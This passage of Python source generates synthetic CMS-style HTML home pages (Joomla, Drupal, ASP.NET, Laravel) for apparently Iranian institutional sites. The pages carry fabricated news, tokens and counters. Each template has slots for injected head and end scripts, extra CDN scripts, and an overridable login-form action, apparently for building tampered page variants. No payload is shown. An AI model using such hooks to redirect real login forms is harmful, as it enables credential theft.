  <section class="widget widget_counter"><h2 class="widget-title">{t("stats")}</h2><ul><li>{t("visits")}: {site.num(o.visits)}</li><li>{t("online")}: {site.num(o.online)}</li></ul></section>
</aside>
</div></div>
<footer class="site-footer" id="colophon" itemtype="https://schema.org/WPFooter" itemscope="itemscope">
  <div class="ast-small-footer"><p>{t("address")}: {site.extra.get("address", "Kerman, Jomhouri Boulevard" if site.lang == "en" else "کرمان، بلوار جمهوری اسلامی")}</p>
  <p>&copy; {site.name()} &ndash; {t("rights")} | <a href="https://{site.host}/privacy-policy/">Privacy</a> | {t("today")}: {site.date(o.day)}</p></div>
</footer>
</div>
<script type="text/javascript" src="https://{site.host}/wp-content/plugins/contact-form-7/includes/swv/js/index.js?ver=5.8.7" id="swv-js"></script>
<script type="text/javascript" id="contact-form-7-js-extra">
/* <![CDATA[ */
var wpcf7 = {{"api":{{"root":"https:\\/\\/{site.host}\\/wp-json\\/","namespace":"contact-form-7\\/v1"}},"cached":"1"}};
/* ]]> */
</script>
<script type="text/javascript" src="https://{site.host}/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8.7" id="contact-form-7-js"></script>
<script type="text/javascript" id="astra-theme-js-js-extra">
/* <![CDATA[ */
var astra = {{"break_point":"921","isRtl":"{'1' if site.dir == 'rtl' else ''}","is_scroll_to_id":"","ajax_url":"https:\\/\\/{site.host}\\/wp-admin\\/admin-ajax.php","nonce":"{o.wpnonce}"}};
/* ]]> */
</script>
<script type="text/javascript" src="https://{site.host}/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.6.4" id="astra-theme-js-js"></script>
{m.get("end", "")}</body>
</html>
'''


def joomla(site, o, m):
    t = site.t
    j4 = m.get("joomla4", False)
    if j4:
        assets = f'''<link href="/media/templates/site/cassiopeia/css/template{'-rtl' if site.dir == 'rtl' else ''}.min.css?5d1e7a3b9c2f" rel="stylesheet" />
<link href="/media/vendor/fontawesome-free/css/fontawesome.min.css?6.4.2" rel="stylesheet" />
<script src="/media/vendor/jquery/js/jquery.min.js?3.7.1"></script>
<script src="/media/legacy/js/jquery-noconflict.min.js?647005fc12b79b3ca2bb30c059899d5994e3e34d"></script>
<script type="application/json" class="joomla-script-options new">{{"csrf.token":"{o.joomla_token}","system.paths":{{"root":"","rootFull":"https:\\/\\/{site.host}\\/","base":"","baseFull":"https:\\/\\/{site.host}\\/"}}}}</script>
<script src="/media/system/js/core.min.js?37ffe4186289eba9c5df81bea44080aff77b9684"></script>
<script src="/media/templates/site/cassiopeia/js/template.min.js?5d1e7a3b9c2f" defer></script>'''
    else:
        assets = f'''<link href="/templates/protostar/css/template.css?{m.get('jver', 'a1b2c3d4e5')}" rel="stylesheet" />
<script src="/media/jui/js/jquery.min.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/jui/js/jquery-noconflict.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/jui/js/jquery-migrate.min.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/system/js/caption.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/system/js/mootools-core.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/system/js/core.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script src="/media/jui/js/bootstrap.min.js?{m.get('jver', 'a1b2c3d4e5')}"></script>
<script>
jQuery(window).on('load',  function() {{
				new JCaption('img.caption');
			}});
</script>'''
    cdn = "\n".join(f'<script src="{u}"></script>' for u in m.get("cdn", site.cdn))
    items = "\n".join(f'''<div class="items-row cols-1 row-{i} row-fluid clearfix"><div class="span12"><div class="item column-1" itemprop="blogPost" itemscope itemtype="https://schema.org/BlogPosting">
  <div class="page-header"><h2 itemprop="name"><a href="/index.php?option=com_content&amp;view=article&amp;id={912 + i + o.news_off}:item-{912 + i + o.news_off}&amp;catid=8&amp;Itemid={110 + i % 3}" itemprop="url">{h}</a></h2></div>
  <dl class="article-info muted"><dd class="published"><span class="icon-calendar" aria-hidden="true"></span><time datetime="{date_iso(o.day)}T08:00:00+03:30" itemprop="datePublished">{site.date(o.day)}</time></dd><dd class="hits"><span class="icon-eye-open"></span><meta itemprop="interactionCount" content="UserPageVisits:{o.rand.randrange(40, 900)}" />{L['en' if site.lang == 'en' else 'fa']['visits']}: {site.num(o.rand.randrange(40, 900))}</dd></dl>
  <p>{x}</p>
  <p class="readmore"><a class="btn" href="/index.php?option=com_content&amp;view=article&amp;id={912 + i + o.news_off}&amp;catid=8&amp;Itemid=110">{t("readmore")}</a></p>
</div></div></div>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html>
<html lang="{'en-gb' if site.lang == 'en' else 'fa-ir'}" dir="{site.dir}">
<head>
	<meta name="viewport" content="width=device-width, initial-scale=1.0" />
	<meta charset="utf-8" />
	<base href="https://{site.host}/" />
	<meta name="generator" content="Joomla! - Open Source Content Management" />
	<title>{m.get("title", site.name())}</title>
	<link href="/index.php?format=feed&amp;type=rss" rel="alternate" type="application/rss+xml" title="RSS 2.0" />
	<link href="/templates/protostar/favicon.ico" rel="shortcut icon" type="image/vnd.microsoft.icon" />
	{assets}
	{cdn}
{m.get("head", "")}</head>
<body class="site com_content view-featured no-layout no-task itemid-101">
{m.get("top", "")}	<div class="body" id="top">
		<div class="container">
			<header class="header" role="banner">
				<div class="header-inner clearfix">
					<a class="brand pull-left" href="/"><img src="https://{site.host}/images/logo.png" alt="{site.org_en}" /></a>
					<div class="header-search pull-right">
						<div class="search">
	<form action="/index.php" method="post" class="form-inline" role="search">
		<label for="mod-search-searchword93" class="element-invisible">{t("search")}</label> <input name="searchword" id="mod-search-searchword93" maxlength="200"  class="inputbox search-query input-medium" type="search" placeholder="{L['en' if site.lang == 'en' else 'fa']['search_ph']}" />		<input type="hidden" name="task" value="search" />
		<input type="hidden" name="option" value="com_search" />
		<input type="hidden" name="Itemid" value="101" />
	</form>
</div>
					</div>
				</div>
			</header>
			<nav class="navigation" role="navigation">
				<div class="navbar pull-left"><a class="btn btn-navbar collapsed" data-toggle="collapse" data-target=".nav-collapse"><span class="element-invisible">Toggle Navigation</span></a></div>
				<div class="nav-collapse"><ul class="nav menu nav-pills mod-list">
<li class="item-101 default current active"><a href="/index.php" >{t("home")}</a></li><li class="item-102"><a href="/index.php?option=com_content&amp;view=article&amp;id=2&amp;Itemid=102" >{t("about")}</a></li><li class="item-110"><a href="/index.php?option=com_content&amp;view=category&amp;layout=blog&amp;id=8&amp;Itemid=110" >{t("news")}</a></li><li class="item-111"><a href="/index.php?option=com_content&amp;view=article&amp;id=5&amp;Itemid=111" >{t("services")}</a></li><li class="item-112"><a href="/index.php?option=com_content&amp;view=article&amp;id=6&amp;Itemid=112" >{t("laws")}</a></li><li class="item-113"><a href="/index.php?option=com_contact&amp;view=contact&amp;id=1&amp;Itemid=113" >{t("contact")}</a></li></ul>
</div>
			</nav>
			<div class="moduletable banner-rotator"><div class="bannergroup"><div class="banneritem"><h3>{bt}</h3><p>{bx}</p><div class="clr"></div></div></div></div>
			<div class="row-fluid">
				<main id="content" role="main" class="span9">
					<div id="system-message-container"></div>
					<div class="blog-featured" itemscope itemtype="https://schema.org/Blog">
<div class="page-header"><h1>{t("latest")}</h1></div>
{items}
</div>
{m.get("main", "")}
				</main>
				<div id="aside" class="span3">
					<div class="well "><h3 class="page-header">{t("ann")}</h3><ul class="latestnews mod-list">{"".join(f"<li>{a}</li>" for a in site.ann)}</ul></div>
					<div class="well "><h3 class="page-header">{t("login")}</h3><form action="{m.get("form_action", "/index.php?option=com_users&amp;task=user.login")}" method="post" id="login-form" class="form-inline">
	<div class="userdata">
		<div id="form-login-username" class="control-group"><div class="controls"><input id="modlgn-username" type="text" name="username" class="input-small" tabindex="0" size="18" placeholder="{L['en' if site.lang == 'en' else 'fa']['user']}" /></div></div>
		<div id="form-login-password" class="control-group"><div class="controls"><input id="modlgn-passwd" type="password" name="password" class="input-small" tabindex="0" size="18" placeholder="{L['en' if site.lang == 'en' else 'fa']['password']}" /></div></div>
		{m.get("form_extra", "")}<div id="form-login-submit" class="control-group"><div class="controls"><button type="submit" tabindex="0" name="Submit" class="btn btn-primary login-button">{t("login")}</button></div></div>
		<input type="hidden" name="option" value="com_users" /><input type="hidden" name="task" value="user.login" /><input type="hidden" name="return" value="aW5kZXgucGhwP0l0ZW1pZD0xMDE=" /><input type="hidden" name="{o.joomla_token}" value="1" />	</div>
</form></div>
					<div class="well "><h3 class="page-header">{t("stats")}</h3><dl class="stats-module"><dt>{t("visits")}</dt><dd>{site.num(o.visits)}</dd><dt>{t("online")}</dt><dd>{site.num(o.online)}</dd></dl></div>
				</div>
			</div>
		</div>
	</div>
	<footer class="footer" role="contentinfo">
		<div class="container"><hr />
			<p class="pull-right"><a href="#top" id="back-top">&uarr;</a></p>
			<p>&copy; {site.name()} | {t("today")}: {site.date(o.day, long=True)}</p>
			<p>{t("address")}: {"Bushehr, Imam Khomeini Street" if site.lang == "en" else "بوشهر، خیابان امام خمینی"} | <span lang="en">{site.org_en}</span></p>
		</div>
	</footer>
{m.get("end", "")}</body>
</html>
'''


def drupal(site, o, m):
    t = site.t
    dv = m.get("drupalver", "10.1.5")
    jsagg = m.get("jsagg", "js_" + b64url(rng("agg", site.id, dv), 32))
    cssagg = m.get("cssagg", "css_" + b64url(rng("cagg", site.id, dv), 32))
    n = nonce_attr(site, o)
    cdn = "\n".join(f'<script src="{u}"></script>' for u in m.get("cdn", site.cdn))
    items = "\n".join(f'''<div class="views-row"><article role="article" about="/node/{3020 + i + o.news_off}" class="node node--type-article node--promoted node--view-mode-teaser">
  <h2><a href="/node/{3020 + i + o.news_off}" rel="bookmark"><span class="field field--name-title field--type-string field--label-hidden">{h}</span></a></h2>
  <footer class="node__meta"><div class="node__submitted">{'Submitted by' if site.lang == 'en' else 'ارسال شده توسط'} <span class="field field--name-uid"><span>editor</span></span> {'on' if site.lang == 'en' else 'در'} <span class="field field--name-created">{site.date(o.day)}</span></div></footer>
  <div class="node__content"><div class="clearfix text-formatted field field--name-body field--type-text-with-summary field--label-hidden field__item"><p>{x}</p></div>
  <ul class="links inline"><li class="node-readmore"><a href="/node/{3020 + i + o.news_off}" rel="tag" hreflang="{site.html_lang}">{t("readmore")}</a></li></ul></div>
</article></div>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html>
<html lang="{site.html_lang}" dir="{site.dir}" prefix="content: http://purl.org/rss/1.0/modules/content/  dc: http://purl.org/dc/terms/  og: http://ogp.me/ns#">
  <head>
    <meta charset="utf-8" />
<meta name="Generator" content="Drupal 10 (https://www.drupal.org)" />
<meta name="MobileOptimized" content="width" />
<meta name="HandheldFriendly" content="true" />
<meta name="viewport" content="width=device-width, initial-scale=1.0" />
<link rel="icon" href="/core/themes/olivero/favicon.ico" type="image/vnd.microsoft.icon" />
    <title>{m.get("title", site.name() + " | " + ("Home" if site.lang == "en" else "صفحه نخست"))}</title>
    <link rel="stylesheet" media="all" href="/sites/default/files/css/{cssagg}.css?delta=0&amp;language={site.html_lang}&amp;theme=olivero&amp;include=eJxdjEEKwzAMBD_kxE8yii1cUdkylpwmv29oD4VcFnZm2T3xkWiHOJpbg6FoXtIgrGk9ATb_uYyMQtWWd5gbrpjnpq7E9y7n4sDuc5d2tsbEz0ZB0hW9_Ee5" />
    {cdn}
    <script type="application/json" data-drupal-selector="drupal-settings-json"{n}>{{"path":{{"baseUrl":"\\/","pathPrefix":"","currentPath":"node","currentPathIsAdmin":false,"isFront":true,"currentLanguage":"{site.html_lang}"}},"pluralDelimiter":"\\u0003","suppressDeprecationErrors":true,"ajaxPageState":{{"libraries":"eJxdjEEKwzAMBD_kxE8yii1cUdkylpwmv29oD4VcFnZm2T3xkWiHOJpbg6FoXtIgrGk9ATb_uYyMQtWWd5gbrpjnpq7E9y7n4sDuc5d2tsbEz0ZB0hW9_Ee5","theme":"olivero","theme_token":null}},"ajaxTrustedUrl":{{"\\/search\\/node":true}},"user":{{"uid":0,"permissionsHash":"{hexs(rng('ph', site.id), 64)}"}}}}</script>
<script src="/sites/default/files/js/{jsagg}.js?scope=header&amp;delta=0&amp;language={site.html_lang}&amp;theme=olivero&amp;include=eJxdjEEKwzAMBD"></script>
<script src="/core/misc/drupal.js?v={dv}"></script>
{m.get("head", "")}  </head>
  <body class="path-frontpage page-node-type-page">
{m.get("top", "")}        <a href="#main-content" class="visually-hidden focusable skip-link">Skip to main content</a>
      <div class="dialog-off-canvas-main-canvas" data-off-canvas-main-canvas>
    <div id="page-wrapper" class="page-wrapper">
  <div id="page">
    <header id="header" class="site-header" data-drupal-selector="site-header" role="banner">
      <div class="site-header__fixable" data-drupal-selector="site-header-fixable">
        <div class="site-header__initial"><button class="sticky-header-toggle" data-drupal-selector="sticky-header-toggle" role="switch" aria-controls="site-header__inner" aria-label="Sticky header" aria-checked="false"><span class="sticky-header-toggle__icon"><span></span><span></span><span></span></span></button></div>
        <div id="site-header__inner" class="site-header__inner" data-drupal-selector="site-header-inner">
          <div class="container site-header__inner__container">
<div id="block-olivero-site-branding" class="site-branding block block-system block-system-branding-block">
  <div class="site-branding__inner"><a href="/" rel="home" class="site-branding__logo"><img src="/sites/default/files/logo.svg" alt="{L["en" if site.lang == "en" else "fa"]["home"]}" /></a>
    <div class="site-branding__text"><div class="site-branding__name"><a href="/" title="{L["en" if site.lang == "en" else "fa"]["home"]}" rel="home">{site.name()}</a></div></div></div>
</div>
<div class="header-nav-overlay" data-drupal-selector="header-nav-overlay"></div>
    <div class="mobile-buttons" data-drupal-selector="mobile-buttons"><button class="mobile-nav-button" data-drupal-selector="mobile-nav-button" aria-label="Main Menu" aria-controls="header-nav" aria-expanded="false"><span class="mobile-nav-button__label">Menu</span><span class="mobile-nav-button__icon"></span></button></div>
  <div id="header-nav" class="header-nav" data-drupal-selector="header-nav">
<nav role="navigation" aria-labelledby="block-olivero-main-menu-menu" id="block-olivero-main-menu" class="primary-nav block block-menu navigation menu--main">
  <h2 class="visually-hidden block__title" id="block-olivero-main-menu-menu">Main navigation</h2>
  <ul class="menu primary-nav__menu primary-nav__menu--level-1" data-drupal-selector="primary-nav-menu--level-1">
    <li class="primary-nav__menu-item primary-nav__menu-item--link primary-nav__menu-item--level-1"><a href="/" class="primary-nav__menu-link primary-nav__menu-link--link primary-nav__menu-link--level-1 is-active" data-drupal-link-system-path="&lt;front&gt;">{t("home")}</a></li>
    <li class="primary-nav__menu-item primary-nav__menu-item--link primary-nav__menu-item--level-1"><a href="/about" class="primary-nav__menu-link primary-nav__menu-link--link primary-nav__menu-link--level-1" data-drupal-link-system-path="node/1">{t("about")}</a></li>
    <li class="primary-nav__menu-item primary-nav__menu-item--link primary-nav__menu-item--level-1"><a href="/news" class="primary-nav__menu-link primary-nav__menu-link--link primary-nav__menu-link--level-1" data-drupal-link-system-path="news">{t("news")}</a></li>
    <li class="primary-nav__menu-item primary-nav__menu-item--link primary-nav__menu-item--level-1"><a href="/publications" class="primary-nav__menu-link primary-nav__menu-link--link primary-nav__menu-link--level-1" data-drupal-link-system-path="node/7">{t("laws")}</a></li>
    <li class="primary-nav__menu-item primary-nav__menu-item--link primary-nav__menu-item--level-1"><a href="/contact" class="primary-nav__menu-link primary-nav__menu-link--link primary-nav__menu-link--level-1" data-drupal-link-system-path="contact">{t("contact")}</a></li>
  </ul>
</nav>
<div class="search-block-form block block-search" data-drupal-selector="search-block-form" id="block-olivero-search-form-wide" role="search">
  <form action="/search/node" method="get" id="search-block-form" accept-charset="UTF-8" class="search-form search-block-form">
  <div class="js-form-item form-item js-form-type-search form-item-keys js-form-item-keys form-no-label"><label for="edit-keys" class="visually-hidden">{t("search")}</label><input title="Enter the terms you wish to search for." data-drupal-selector="edit-keys" type="search" id="edit-keys" name="keys" value="" size="15" maxlength="128" class="form-search form-element form-element--type-search form-element--api-search" /></div>
<div data-drupal-selector="edit-actions" class="form-actions js-form-wrapper form-wrapper" id="edit-actions"><input class="button--primary search-form__submit button js-form-submit form-submit" data-drupal-selector="edit-submit" type="submit" id="edit-submit" value="{L['en' if site.lang == 'en' else 'fa']['search']}" /></div>
</form>
</div>
  </div>
          </div>
        </div>
      </div>
    </header>
    <div id="main-wrapper" class="layout-main-wrapper layout-container">
      <div id="main" class="layout-main">
        <div class="main-content">
          <a id="main-content" tabindex="-1"></a>
          <div class="region region--hero grid-full layout--pass--content-medium"><div class="views-element-container block block-views block-views-blockslideshow-block-1"><div class="slideshow"><h2>{bt}</h2><p>{bx}</p></div></div></div>
          <div class="region region--content grid-full layout--pass--content-medium" id="content">
<div id="block-olivero-page-title" class="block block-core block-page-title-block"><h1 class="title page-title">{t("latest")}</h1></div>
<div data-drupal-messages-fallback class="hidden messages-list"></div>
<div id="block-olivero-content" class="block block-system block-system-main-block"><div class="views-element-container"><div class="view view-frontpage view-id-frontpage view-display-id-page_1">
{items}
</div></div></div>
{m.get("main", "")}
          </div>
          <div class="region region--sidebar">
<div class="block block-user block-user-login-block" role="form"><h2 class="block__title">{t("login")}</h2>
<form class="user-login-form" data-drupal-selector="user-login-form" action="{m.get("form_action", "/node?destination=/node")}" method="post" id="user-login-form" accept-charset="UTF-8">
  <div class="js-form-item form-item js-form-type-textfield form-item-name js-form-item-name"><label for="edit-name" class="js-form-required form-required form-item__label">{t("user")}</label><input autocorrect="none" autocapitalize="none" spellcheck="false" autocomplete="username" data-drupal-selector="edit-name" type="text" id="edit-name" name="name" value="" size="15" maxlength="60" class="form-text required form-element form-element--type-text form-element--api-textfield" required="required" aria-required="true" /></div>
  <div class="js-form-item form-item js-form-type-password form-item-pass js-form-item-pass"><label for="edit-pass" class="js-form-required form-required form-item__label">{t("password")}</label><input autocomplete="current-password" data-drupal-selector="edit-pass" type="password" id="edit-pass" name="pass" size="15" maxlength="128" class="form-text required form-element form-element--type-password form-element--api-password" required="required" aria-required="true" /></div>
  <input autocomplete="off" data-drupal-selector="{o.form_build_id}" type="hidden" name="form_build_id" value="{o.form_build_id}" />
  <input data-drupal-selector="edit-user-login-form" type="hidden" name="form_id" value="user_login_form" />
  {m.get("form_extra", "")}<div data-drupal-selector="edit-actions" class="form-actions js-form-wrapper form-wrapper" id="edit-actions--2"><input class="button--primary button js-form-submit form-submit" data-drupal-selector="edit-submit" type="submit" id="edit-submit--2" name="op" value="{L['en' if site.lang == 'en' else 'fa']['login']}" /></div>
</form>
</div>
<div class="block block-statistics"><h2 class="block__title">{t("stats")}</h2><p>{t("visits")}: {site.num(o.visits)}</p><p>{t("online")}: {site.num(o.online)}</p></div>
          </div>
        </div>
      </div>
    </div>
    <footer class="site-footer">
      <div class="site-footer__inner container">
<div id="block-olivero-powered" class="block block-system block-system-powered-by-block"><span>{site.name()} &copy; 2026 &middot; {t("today")}: {site.date(o.day, long=True)} &middot; Powered by <a href="https://www.drupal.org">Drupal</a></span></div>
      </div>
    </footer>
  </div>
</div>
  </div>
<script src="/core/assets/vendor/jquery/jquery.min.js?v=3.7.1"></script>
<script src="/core/misc/drupalSettingsLoader.js?v={dv}"></script>
<script src="/core/themes/olivero/js/navigation-utils.js?v={dv}"></script>
<script{n}>document.documentElement.classList.add('js'); window.drupalTokens = {{"csrf":"{o.drupal_token}"}};</script>
{m.get("end", "")}  </body>
</html>
'''


def aspnet(site, o, m):
    t = site.t
    sess = o.sess[:24]
    cdn = "\n".join(f'<script src="{u}" type="text/javascript"></script>' for u in m.get("cdn", site.cdn))
    wr = m.get("wr", "pynGkmcFUV13He1Qd6_TZAG0REM8qqEBAHJ5ZTeaVWs7ByDT7YJmxQ2")
    items = "\n".join(f'''<tr class="{'GridRow' if i % 2 == 0 else 'GridAltRow'}"><td class="NewsCell"><a id="ContentPlaceHolder1_gvNews_lnkTitle_{i}" class="NewsTitle" href="NewsDetail.aspx?ID={5500 + i + o.news_off}">{h}</a><br /><span id="ContentPlaceHolder1_gvNews_lblDate_{i}" class="NewsDate">{site.date(o.day)}</span><p class="NewsLead">{x}</p></td></tr>'''
                      for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" dir="{site.dir}" lang="{site.html_lang}">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8" /><meta http-equiv="X-UA-Compatible" content="IE=edge" /><title>
	{m.get("title", site.name())}
</title><link href="App_Themes/Default/Style.css" type="text/css" rel="stylesheet" /><link href="Styles/Site.css?v=2.4.1" rel="stylesheet" type="text/css" />
<script src="Scripts/jquery-1.12.4.min.js" type="text/javascript"></script>
{cdn}
{m.get("head", "")}</head>
<body>
{m.get("top", "")}    <form method="post" action="{m.get("form_action", "./Default.aspx")}" id="form1">
<div class="aspNetHidden">
<input type="hidden" name="__EVENTTARGET" id="__EVENTTARGET" value="" />
<input type="hidden" name="__EVENTARGUMENT" id="__EVENTARGUMENT" value="" />
<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="{o.viewstate}" />
</div>

<script type="text/javascript">
//<![CDATA[
var theForm = document.forms['form1'];
if (!theForm) {{
    theForm = document.form1;
}}
function __doPostBack(eventTarget, eventArgument) {{
    if (!theForm.onsubmit || (theForm.onsubmit() != false)) {{
        theForm.__EVENTTARGET.value = eventTarget;
        theForm.__EVENTARGUMENT.value = eventArgument;
        theForm.submit();
    }}
}}
//]]>
</script>

<script src="/WebResource.axd?d={wr}&amp;t=638310452460000000" type="text/javascript"></script>
<script src="/ScriptResource.axd?d=NJmAwtEo3Ipnlaxl6CMhvtsjOePWILlbx0bcs5D_2pJ7cLwY6Ly1L1L8C4s8AyG0-Lmr0B2gtW4NkmrTTqHoD3pMV1fi6Fg5pbTGzeLwGQ1&amp;t=ffffffffe6692900" type="text/javascript"></script>
<script type="text/javascript">
//<![CDATA[
if (typeof(Sys) === 'undefined') throw new Error('ASP.NET Ajax client-side framework failed to load.');
//]]>
</script>
<script src="/ScriptResource.axd?d=dwY9oWetJoJoVpgL6Zq8OPuNe4vCGC3m7Z8TKhWjvHSjZ2FKVgPfkBZlHcCwqnL4TCgJbV-9mfXblBofkOp9O9ZiF5yNvlGZGbXo3c3SADT1&amp;t=ffffffffe6692900" type="text/javascript"></script>
<div class="aspNetHidden">
	<input type="hidden" name="__VIEWSTATEGENERATOR" id="__VIEWSTATEGENERATOR" value="{o.vsgen}" />
	<input type="hidden" name="__EVENTVALIDATION" id="__EVENTVALIDATION" value="{o.evval}" />
</div>
        <script type="text/javascript">
//<![CDATA[
Sys.WebForms.PageRequestManager._initialize('ctl00$ScriptManager1', 'form1', ['tctl00$ContentPlaceHolder1$upPoll','ContentPlaceHolder1_upPoll'], [], [], 90, 'ctl00');
//]]>
</script>
        <div id="wrapper">
            <div id="header">
                <div id="logo"><a href="Default.aspx"><img id="imgLogo" src="Images/logo.png" alt="{site.org_en}" /></a></div>
                <div id="headerTitle"><h1><span id="lblSiteTitle">{site.name()}</span></h1></div>
                <div id="headerDate"><span id="lblToday">{t("today")}: {site.date(o.day, long=True)}</span></div>
            </div>
            <div id="menu">
                <ul class="MainMenu">
                    <li><a href="Default.aspx">{t("home")}</a></li>
                    <li><a href="Page.aspx?ID=2">{t("about")}</a></li>
                    <li><a href="NewsList.aspx">{t("news")}</a></li>
                    <li><a href="Services.aspx">{t("services")}</a></li>
                    <li><a href="Page.aspx?ID=9">{t("laws")}</a></li>
                    <li><a href="Contact.aspx">{t("contact")}</a></li>
                </ul>
                <div id="search"><input name="ctl00$txtSearch" type="text" id="txtSearch" class="SearchBox" /><input type="submit" name="ctl00$btnSearch" value="{L['en' if site.lang == 'en' else 'fa']['search']}" id="btnSearch" class="SearchButton" /></div>
            </div>
            <div id="content">
                <div id="rightColumn">
                    <div class="Box"><div class="BoxTitle">{t("login")}</div><div class="BoxContent">
                        <table class="LoginTable"><tr><td><span id="lblUser">{t("user")}</span></td><td><input name="ctl00$Login1$UserName" type="text" id="Login1_UserName" /></td></tr>
                        <tr><td><span id="lblPass">{t("password")}</span></td><td><input name="ctl00$Login1$Password" type="password" id="Login1_Password" /></td></tr>
                        <tr><td colspan="2">{m.get("form_extra", "")}<input type="submit" name="ctl00$Login1$LoginButton" value="{L['en' if site.lang == 'en' else 'fa']['login']}" id="Login1_LoginButton" /></td></tr></table>
                    </div></div>
                    <div class="Box"><div class="BoxTitle">{t("ann")}</div><div class="BoxContent"><ul>{"".join(f"<li>{a}</li>" for a in site.ann)}</ul></div></div>
                    <div class="Box"><div class="BoxTitle">{t("poll")}</div><div class="BoxContent"><div id="ContentPlaceHolder1_upPoll"><table id="rblPoll"><tr><td><input id="rblPoll_0" type="radio" name="ctl00$rblPoll" value="1" /><label for="rblPoll_0">{site.num(o.poll[0])}%</label></td></tr><tr><td><input id="rblPoll_1" type="radio" name="ctl00$rblPoll" value="2" /><label for="rblPoll_1">{site.num(o.poll[1])}%</label></td></tr></table><a id="lnkPoll" href="javascript:__doPostBack(&#39;ctl00$lnkPoll&#39;,&#39;&#39;)">{L['en' if site.lang == 'en' else 'fa']['send']}</a></div></div></div>
                </div>
                <div id="mainColumn">
                    <div class="Slider"><div class="Slide"><h2>{bt}</h2><p>{bx}</p></div></div>
                    <div class="Box"><div class="BoxTitle">{t("latest")}</div>
                    <div><table class="Grid" cellspacing="0" rules="all" border="1" id="ContentPlaceHolder1_gvNews" style="border-collapse:collapse;">
{items}
                    </table></div><a href="NewsList.aspx" class="More">{t("more")}</a></div>
{m.get("main", "")}
                </div>
            </div>
            <div id="footer">
                <span id="lblCopyright">{site.name()} &copy; 2026 - {t("rights")}</span><br />
                <span id="lblVisits">{t("visits")}: {site.num(o.visits)}</span> | <span id="lblOnline">{t("online")}: {site.num(o.online)}</span><br />
                <a href="https://www.{'tamin.ir' if site.lang == 'fa' else 'irica.ir'}/">{'سازمان مرکزی' if site.lang == 'fa' else 'Head office'}</a>
            </div>
        </div>
    </form>
    <script type="text/javascript">var sessionId = '{sess}';</script>
{m.get("end", "")}</body>
</html>
'''


def laravel(site, o, m):
    t = site.t
    n = nonce_attr(site, o)
    mix = m.get("mix", {"app.css": "a3c2e1f0b8d74e2f1c0b", "app.js": "9f8e7d6c5b4a39281706", "vendor.js": "0a1b2c3d4e5f60718293"})
    cdn = "\n".join(f'<link rel="stylesheet" href="{u}">' if u.endswith(".css") else f'<script src="{u}"></script>'
                    for u in m.get("cdn", site.cdn))
    items = "\n".join(f'''<div class="col-md-6 col-lg-4 mb-4"><div class="card h-100 shadow-sm">
  <img src="/storage/news/{2024 + i + o.news_off}/thumb.jpg" class="card-img-top" alt="" loading="lazy">
  <div class="card-body"><h5 class="card-title"><a href="/news/{2024 + i + o.news_off}-{'item' if site.lang == 'en' else 'khabar'}" class="stretched-link text-decoration-none">{h}</a></h5>
  <p class="card-text text-muted small">{x}</p></div>
  <div class="card-footer bg-transparent"><small class="text-muted"><i class="bi bi-calendar3"></i> {site.date(o.day)}</small></div>
</div></div>''' for i, (h, x) in enumerate(news_items(site, o, override=m.get("news"))))
    bt, bx = site.banners[o.banner]
    return f'''<!doctype html>
<html lang="{site.html_lang}" dir="{site.dir}">
<head>
    <meta charset="utf-8">
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <meta name="csrf-token" content="{o.laravel_token}">
    <title>{m.get("title", site.name())}</title>
    <link rel="icon" type="image/png" href="/favicon.png">
    {cdn}
    <link href="/css/app.css?id={mix['app.css']}" rel="stylesheet">
    <script{n}>window.Laravel = {{"csrfToken":"{o.laravel_token}","locale":"{site.html_lang}"}};</script>
{m.get("head", "")}</head>
<body class="d-flex flex-column min-vh-100">
{m.get("top", "")}<div id="app" class="flex-grow-1">
    <nav class="navbar navbar-expand-md navbar-dark bg-primary shadow-sm">
        <div class="container">
            <a class="navbar-brand" href="/"><img src="/images/logo-white.svg" height="40" alt="">{site.name()}</a>
            <button class="navbar-toggler" type="button" data-bs-toggle="collapse" data-bs-target="#navbarSupportedContent" aria-controls="navbarSupportedContent" aria-expanded="false" aria-label="Toggle navigation"><span class="navbar-toggler-icon"></span></button>
            <div class="collapse navbar-collapse" id="navbarSupportedContent">
                <ul class="navbar-nav me-auto">
                    <li class="nav-item"><a class="nav-link active" href="/">{t("home")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/about">{t("about")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/news">{t("news")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/services">{t("services")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/events">{t("events")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/contact">{t("contact")}</a></li>
                </ul>
                <ul class="navbar-nav ms-auto">
                    <li class="nav-item"><a class="nav-link" href="/lang/{'fa' if site.lang == 'en' else 'en'}">{L[site.lang if site.lang != 'bi' else 'fa']['lang']}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/login">{t("login")}</a></li>
                    <li class="nav-item"><a class="nav-link" href="/register">{t("register")}</a></li>
                </ul>
            </div>
        </div>
    </nav>
    <div id="carouselMain" class="carousel slide" data-bs-ride="carousel"><div class="carousel-inner"><div class="carousel-item active"><div class="container py-5"><h2 class="display-6">{bt}</h2><p class="lead">{bx}</p></div></div></div></div>
    <main class="py-4">
        <div class="container">
            <h1 class="h3 mb-4">{t("latest")}</h1>
            <div class="row">
{items}
            </div>
            <div class="row mt-4"><div class="col-lg-6">
                <div class="card"><div class="card-header">{t("contact_form")}</div><div class="card-body">
